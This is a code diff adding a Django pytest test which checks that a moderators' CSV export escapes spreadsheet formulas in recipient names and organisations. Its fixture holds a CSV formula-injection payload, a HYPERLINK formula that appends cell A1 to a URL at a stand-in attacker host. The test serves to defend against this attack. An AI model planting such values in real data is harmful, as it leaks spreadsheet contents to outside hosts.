@@ -187,3 +187,20 @@ def test_moderators_read_and_export_the_openings(moderator_client, editor_client
     assert {row[1] for row in rows[1:]} == {"Giulia Ferri"}
     assert {row[5] for row in rows[1:]} == {"it", "en"}
     assert Opening.objects.count() == 2
+
+
+@pytest.mark.django_db
+def test_the_openings_csv_shows_a_formula_typed_as_a_name_as_text(moderator_client, release, client):
+    """Recipients are proposed by Editors: a name or organisation must not run as a formula in a spreadsheet."""
+    recipient = make_recipient(
+        name='=HYPERLINK("https://evil.example/?"&A1, "Click")', organisation="+39 Press", email="x@example.org"
+    )
+    _item, token = grant(recipient, release["it"], Grant.RELEASE)
+    with before_the_embargo():
+        client.get(f"/anteprima/{token}/")
+
+    export = moderator_client.get(reverse("earlyaccess_openings:index"), {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
+    assert rows[1][1] == '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'
+    assert rows[1][2] == "'+39 Press"
+    assert rows[1][5] == "it", "plain values are unchanged"
